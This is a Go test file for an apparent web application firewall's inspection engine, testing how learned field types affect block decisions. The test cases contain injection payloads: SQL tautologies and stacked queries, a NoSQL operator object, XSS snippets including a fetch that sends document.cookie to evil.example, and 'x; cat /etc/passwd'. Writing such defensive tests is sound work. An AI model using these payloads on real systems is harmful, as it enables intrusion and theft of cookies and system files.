package inspect

import (
	"encoding/json"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/bulwark-sec/bulwark/internal/corpus"
	"github.com/bulwark-sec/bulwark/internal/testutil"
	"github.com/bulwark-sec/bulwark/routes"
)

func newTestEngine(t *testing.T) *Engine {
	t.Helper()
	e, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func TestLearnedTypes(t *testing.T) {
	e := newTestEngine(t)
	types := map[string]routes.FieldType{
		"query:id": routes.TypeInteger, "form:password": routes.TypePassword, "json:$.password": routes.TypePassword,
	}
	form := http.Header{"Content-Type": {"application/x-www-form-urlencoded"}}
	json := http.Header{"Content-Type": {"application/json"}}
	for _, c := range []struct {
		name   string
		req    Request
		action Action
		rule   string
	}{
		{"an id in its type", Request{Method: "GET", URI: "/items?id=17"}, Allow, ""},
		{"an id receiving a tautology without a keyword", Request{Method: "GET", URI: "/items?id=1%20or%20true"}, Block, "bw-field-001"},
		{"an id receiving a stacked query", Request{Method: "GET", URI: "/items?id=1;drop%20table%20x"}, Block, "bw-field-001"},
		{"an id receiving a word", Request{Method: "GET", URI: "/items?id=abc"}, Log, "bw-field-002"},
		{"a password that looks like SQL", Request{Method: "POST", URI: "/login", Header: form, Body: []byte("password=%27%20or%201%3D1%20--")}, Allow, ""},
		{"a password as an operator object", Request{Method: "POST", URI: "/login", Header: json, Body: []byte(`{"password":{"$ne":null}}`)}, Block, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			c.req.Types = types
			v := e.Inspect(&c.req)
			if v.Action != c.action || (c.rule != "" && !hasRule(v, c.rule)) {
				t.Errorf("%s %s: %v, want %v with %s", c.req.Method, c.req.URI, v, c.action, c.rule)
			}
		})
	}
	// Without the learned types, a password that looks like SQL is blocked
	// as it always was: the type is what lets it through.
	v := e.Inspect(&Request{Method: "POST", URI: "/login", Header: form, Body: []byte("password=%27%20or%201%3D1%20--")})
	if v.Action != Block {
		t.Errorf("a SQL-looking password with no learned type: %v, want blocked", v)
	}
}

func TestSeenShowsParameterValues(t *testing.T) {
	e := newTestEngine(t)
	got := map[string]string{}
	e.Inspect(&Request{Method: "POST", URI: "/a?page=2", Header: http.Header{"Content-Type": {"application/json"}, "Cookie": {"theme=dark"}},
		Body: []byte(`{"article":{"title":"Hello","tags":["go"]}}`),
		Seen: func(where, value string) { got[where] = value }})
	for where, want := range map[string]string{"query:page": "2", "json:$.article.title": "Hello", "cookie:theme": "dark"} {
		if got[where] != want {
			t.Errorf("seen %q = %q, want %q (all %v)", where, got[where], want, got)
		}
	}
	if _, ok := got["header:user-agent"]; ok {
		t.Error("headers are not fields")
	}
}

// Numeric-context SQL injection from PayloadsAllTheThings against a field
// learned as an integer: every SQL payload that needs no quote to break
// out, sent as is when it starts with a number and after "1 " otherwise;
// at least 95% blocked.
func TestNumericContextAttacks(t *testing.T) {
	dir, err := corpus.Dir()
	if err != nil {
		testutil.RealPartMissing(t, err.Error())
	}
	cases, err := corpus.LoadPATT(dir)
	if err != nil {
		t.Fatal(err)
	}
	e := newTestEngine(t)
	types := map[string]routes.FieldType{"query:id": routes.TypeInteger}
	seen := map[string]bool{}
	var n, typed, plain int
	for _, c := range cases {
		if c.Group != "SQL-Injection" || !strings.HasSuffix(c.ID, "/query") {
			continue
		}
		_, q, _ := strings.Cut(c.Path, "?")
		vals, err := url.ParseQuery(q)
		p := strings.TrimSpace(vals.Get("q"))
		if err != nil || p == "" || strings.ContainsRune("'\"`", rune(p[0])) {
			continue // a quote to break out of: string context
		}
		if !(p[0] >= '0' && p[0] <= '9') {
			p = "1 " + p
		}
		if seen[p] {
			continue
		}
		seen[p] = true
		n++
		uri := "/items?id=" + url.QueryEscape(p)
		if e.Inspect(&Request{Method: "GET", URI: uri, Types: types}).Action == Block {
			typed++
		}
		if e.Inspect(&Request{Method: "GET", URI: uri}).Action == Block {
			plain++
		}
	}
	if n < 300 {
		t.Fatalf("%d numeric-context payloads: is the corpus whole?", n)
	}
	t.Logf("numeric-context SQLi blocked: %d/%d (%.1f%%) with the learned type, %d/%d (%.1f%%) without",
		typed, n, 100*float64(typed)/float64(n), plain, n, 100*float64(plain)/float64(n))
	if float64(typed) < 0.95*float64(n) || typed <= plain {
		t.Errorf("%d of %d numeric-context attacks blocked on an integer field, want 95%% and more than the %d without its type", typed, n, plain)
	}
}

// A body field learned as free text is judged as free text whatever the
// shape of its value: a short title naming a tag in a code span, an
// article that is mostly markup and code. The judgement still needs the
// evidence of an injection in its prose: executable markup outside quoted
// code is stored XSS and blocks, as do a quote closed then an SQL clause
// and a command after a separator.
func TestLearnedFreeText(t *testing.T) {
	e := newTestEngine(t)
	types := map[string]routes.FieldType{
		"json:$.article.title": routes.TypeRichText, "json:$.article.body": routes.TypeRichText,
		"json:$.article.description": routes.TypeText, "query:q": routes.TypeText,
	}
	article := func(field, v string) Request {
		b, _ := json.Marshal(map[string]map[string]string{"article": {field: v}})
		return Request{Method: "POST", URI: "/api/articles", Header: http.Header{"Content-Type": {"application/json"}}, Body: b}
	}
	table := "## Technical summary\n\n<table class=\"properties\">\n  <tbody>\n    <tr>\n      <th scope=\"row\">" +
		"<a href=\"#content_categories\">Content categories</a></th>\n      <td>Flow content</td>\n    </tr>\n  </tbody>\n</table>\n"
	for _, c := range []struct {
		name   string
		req    Request
		passes bool // with the learned type; every case has a finding without it
	}{
		{"a title naming a tag in a code span", article("title", "`<meta>` HTML metadata element"), true},
		{"a title naming a tag with an attribute", article("title", "`<input type=\"url\">` HTML attribute value"), true},
		{"a title naming a command", article("title", "`unset` CSS keyword"), true},
		{"a title naming a JavaScript sink", article("title", "`eval()` global function"), true},
		{"a script element in a title", article("title", "<script>alert(document.cookie)</script>"), false},
		{"an event handler in a title", article("title", "Hi <img src=x onerror=alert(1)>"), false},
		{"a script after a code block", article("body", "```js\nlet a = 1;\n```\n<script>fetch('//evil.example/'+document.cookie)</script>"), false},
		{"a javascript: link in a table", article("body", table+"<a href=\"javascript:alert(1)\">more</a>"), false},
		{"an svg handler in a description", article("description", "<svg/onload=alert(1)>"), false},
		{"a quote closed then a tautology", article("title", "x' or 1=1-- "), false},
		{"a stacked query", article("description", "a'; drop table users; --"), false},
		{"a command after a separator", article("title", "x; cat /etc/passwd"), false},
	} {
		t.Run(c.name, func(t *testing.T) {
			if v := e.Inspect(&c.req); v.Action == Allow {
				t.Fatalf("without learned types: %v, want a finding (the case shows nothing otherwise)", v)
			}
			c.req.Types = types
			v := e.Inspect(&c.req)
			switch {
			case c.passes && v.Action != Allow:
				t.Errorf("%s with learned types: %v, want allowed with no finding", c.req.Body, v)
			case !c.passes && v.Action != Block:
				t.Errorf("%s with learned types: %v, want blocked", c.req.Body, v)
			}
		})
	}
	// A query parameter learned as text keeps the judgement of a value: a
	// search is reflected as it comes.
	r := Request{Method: "GET", URI: "/search?q=" + url.QueryEscape("`<script>` element"), Types: types}
	if v := e.Inspect(&r); v.Action != Block {
		t.Errorf("a script tag in a search learned as text: %v, want blocked", v)
	}
}
